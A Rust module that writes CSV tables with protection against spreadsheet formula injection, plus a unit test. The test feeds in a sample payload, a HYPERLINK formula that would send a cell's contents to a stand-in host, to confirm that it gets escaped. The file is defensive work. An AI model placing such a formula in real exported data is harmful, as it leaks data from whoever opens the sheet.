//! Tables in CSV, which people open in a spreadsheet.

use std::{
    borrow::Cow,
    fmt,
    io::{self, Write},
};

/// A table in CSV. No cell of it is a formula.
pub struct Sheet<W: Write>(csv::Writer<W>);

impl<W: Write> fmt::Debug for Sheet<W> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Sheet")
    }
}

impl<W: Write> Sheet<W> {
    /// Begins a table with the names of its columns.
    ///
    /// # Errors
    /// Those of the writer.
    pub fn new<'a>(out: W, columns: impl IntoIterator<Item = &'a str>) -> io::Result<Self> {
        let mut writer = csv::Writer::from_writer(out);
        writer.write_record(columns)?;
        Ok(Self(writer))
    }

    /// Adds a row of texts and numbers.
    ///
    /// # Errors
    /// Those of the writer.
    pub fn row<T: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = T>) -> io::Result<()> {
        for cell in cells {
            self.0.write_field(harmless(cell.as_ref()).as_bytes())?;
        }
        Ok(self.0.write_record(None::<&[u8]>)?)
    }

    /// Writes what is left.
    ///
    /// # Errors
    /// Those of the writer.
    pub fn finish(self) -> io::Result<W> {
        self.0.into_inner().map_err(|error| io::Error::other(error.to_string()))
    }
}

/// A cell that a spreadsheet takes for a text, also if it begins like a formula: whoever names a customer, an order or a
/// meter must not have a program run at the vendor's.
fn harmless(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) {
        return format!("'{cell}").into();
    }
    cell.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[&[&str]]) -> String {
        let mut sheet = Sheet::new(Vec::new(), ["name", "used"]).unwrap();
        for row in rows {
            sheet.row(*row).unwrap();
        }
        String::from_utf8(sheet.finish().unwrap()).unwrap()
    }

    #[test]
    fn no_cell_is_a_formula_and_each_is_one_cell() {
        let formula = "=HYPERLINK(\"http://x/?\"&A1,\"pay\")";
        let rows: [&[&str]; 4] =
            [&[formula, "7"], &["+1", "-2"], &["a,b\r\nc \"d\"", "0"], &["@SUM(1)", "1"]];
        let text = written(&rows);
        let expected = "name,used\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"pay\"\")\",7\n'+1,'-2\n\"a,b\r\nc \"\"d\"\"\",0\n'@SUM(1),1\n";
        assert_eq!(text, expected);
        let read: Vec<csv::StringRecord> =
            csv::Reader::from_reader(text.as_bytes()).records().map(|row| row.unwrap()).collect();
        assert_eq!((&read[0][0], &read[2][0]), (&*format!("'{formula}"), "a,b\r\nc \"d\""));
        assert_eq!(written(&[&["cus-1=2", "7"]]), "name,used\ncus-1=2,7\n", "only the beginning matters");
    }
}
